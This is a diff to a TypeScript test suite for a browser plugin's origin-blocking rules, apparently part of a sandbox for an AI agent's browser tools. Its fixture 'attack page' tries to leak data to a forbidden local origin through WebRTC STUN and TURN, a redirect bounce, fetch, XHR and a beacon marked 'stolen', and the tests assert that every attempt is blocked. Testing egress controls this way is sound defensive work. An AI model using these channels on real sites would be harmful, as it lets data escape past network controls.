@@ -1,3 +1,4 @@
+import { createSocket, type Socket } from "node:dgram";
 import { writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -11,6 +12,9 @@ import { createBrowserPlugin } from "./index.js";
  */
 let allowed: CountingServer;
 let forbidden: CountingServer;
+/** UDP on the forbidden host's port: where WebRTC's STUN and TURN would go. */
+let forbiddenUdp: Socket;
+let udpPackets = 0;
 let worksite: { path: string; remove(): Promise<void> };
 let gate: Gate;
 let audit: AuditLog;
@@ -32,6 +36,14 @@ function attackPage(f: string, a: string): string {
 <a id="blank" href="${f}/blank-link" target="_blank">new tab</a>
 <script>
 const settled = [];
+const host = new URL("${f}").host;
+const rtc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }, { urls: "turn:" + host + "?transport=udp", username: "u", credential: "p" }] });
+rtc.createDataChannel("leak");
+settled.push(rtc.createOffer().then((o) => rtc.setLocalDescription(o)).then(() => new Promise((r) => {
+  if (rtc.iceGatheringState === "complete") r("rtc gathered");
+  rtc.onicegatheringstatechange = () => { if (rtc.iceGatheringState === "complete") r("rtc gathered"); };
+})));
+settled.push(new Promise((r) => { const img = new Image(); img.onload = () => r("redirected img reached"); img.onerror = () => r("redirected img refused"); img.src = "/bounce"; }));
 settled.push(fetch("${f}/fetch", { mode: "no-cors" }).then(() => "fetch reached", () => "fetch refused"));
 settled.push(new Promise((r) => { const x = new XMLHttpRequest(); x.open("GET", "${f}/xhr"); x.onload = () => r("xhr reached"); x.onerror = x.onabort = () => r("xhr refused"); x.send(); }));
 navigator.sendBeacon("${f}/beacon", "stolen");
@@ -51,8 +63,13 @@ Promise.all(settled).then((results) => { const p = document.createElement("p"); 
 
 beforeAll(async () => {
   forbidden = await countingServer();
+  forbiddenUdp = createSocket("udp4");
+  forbiddenUdp.on("message", () => { udpPackets++; });
+  await new Promise<void>((resolve) => forbiddenUdp.bind(Number(new URL(forbidden.origin).port), "127.0.0.1", resolve));
   allowed = await countingServer({
     "/attack": (_req, res) => { res.writeHead(200, { "content-type": "text/html" }).end(attackPage(forbidden.origin, allowed.origin)); },
+    // An allowed address that redirects a subresource to the forbidden origin.
+    "/bounce": (_req, res) => { res.writeHead(302, { location: `${forbidden.origin}/bounced.png` }).end(); },
     "/page": (_req, res) => { res.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>Plain</title><h1>Plain page</h1>`); },
     "/worker.js": js(`Promise.all([
       fetch("${forbidden.origin}/from-worker").then(() => "worker fetch reached", () => "worker fetch refused"),
@@ -91,6 +108,7 @@ afterAll(async () => {
   await gate?.dispose();
   await allowed?.close();
   await forbidden?.close();
+  forbiddenUdp?.close();
   await worksite?.remove();
 });
 
@@ -111,7 +129,7 @@ function typesFor(entries: AuditEntry[], origin: string): Record<string, number>
 }
 
 describe("every request a page makes goes through the origin rules", () => {
-  it("blocks img, css, prefetch, fetch, XHR, beacon, EventSource, WebSockets, popups, iframes, workers and service workers to a forbidden origin before any byte leaves", async () => {
+  it("blocks img, css, prefetch, fetch, XHR, beacon, EventSource, WebSockets, WebRTC, redirects, popups, iframes, workers and service workers to a forbidden origin before any byte leaves", async () => {
     let calls = 0;
     const told: string[] = [];
     const call = async (tool: string, input: unknown) => {
@@ -122,7 +140,7 @@ describe("every request a page makes goes through the origin rules", () => {
     };
 
     await call("browser.open", { url: `${allowed.origin}/attack` });
-    await call("browser.wait-for", { text: "RESULTS" });
+    await call("browser.wait-for", { text: "RESULTS", timeoutMs: 60_000 });
     // WebSockets and other connections no page request preceded are tallied by host:port.
     const fws = forbidden.origin.replace(/^http:\/\//, "");
     // The beacon and the popups give the page no answer: wait until the guard has reported them.
@@ -138,10 +156,12 @@ describe("every request a page makes goes through the origin rules", () => {
     expect(forbidden.upgrades).toEqual([]);
     // Not even a connection: Chromium's only way out is the plugin's proxy, so no preconnect reaches the host either.
     expect(forbidden.connections()).toBe(0);
+    // WebRTC may only speak through the proxy: no STUN or TURN packet reached the host over UDP.
+    expect(udpPackets).toBe(0);
 
     // What the page itself saw: every attempt failed, its own socket opened.
     const read = (await call("browser.read", {})).result.content;
-    for (const seen of ["fetch refused", "xhr refused", "ws refused", "own ws open", "es refused", "worker fetch refused,worker ws refused", "sw fetch refused"]) {
+    for (const seen of ["fetch refused", "xhr refused", "ws refused", "own ws open", "es refused", "worker fetch refused,worker ws refused", "sw fetch refused", "rtc gathered", "redirected img refused"]) {
       expect(read).toContain(seen);
     }
     const types = typesFor(entries, forbidden.origin);
@@ -162,7 +182,7 @@ describe("every request a page makes goes through the origin rules", () => {
     const summaryEntries = entries.filter((e) => e.type === "navigation" && Array.isArray(e.data?.blocked));
     expect(summaryEntries.length).toBeGreaterThan(0);
     expect(summaryEntries.length).toBeLessThanOrEqual(calls);
-  });
+  }, 90_000);
 
   it("does not run browser.evaluate where only a browser.* rule allows the page", async () => {
     await callOk(gate, "browser.open", { url: `${allowed.origin}/page` });
